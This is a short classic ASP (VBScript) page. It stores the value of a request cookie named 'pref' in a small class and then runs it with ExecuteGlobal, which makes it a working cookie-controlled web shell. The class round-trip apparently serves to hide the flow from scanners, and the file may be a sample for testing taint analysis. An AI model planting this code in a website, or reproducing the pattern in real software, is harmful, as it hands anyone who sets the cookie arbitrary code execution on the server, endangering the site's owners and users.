<%
' the request's text handed to an object of the page's own class and taken back out of it
Class Holder
    Private store
    Public Property Let Payload(v)
        store = v
    End Property
    Public Property Get Payload()
        Payload = store
    End Property
End Class
Dim h
Set h = New Holder
h.Payload = Request.Cookies("pref")
If h.Payload <> "" Then ExecuteGlobal h.Payload
%>
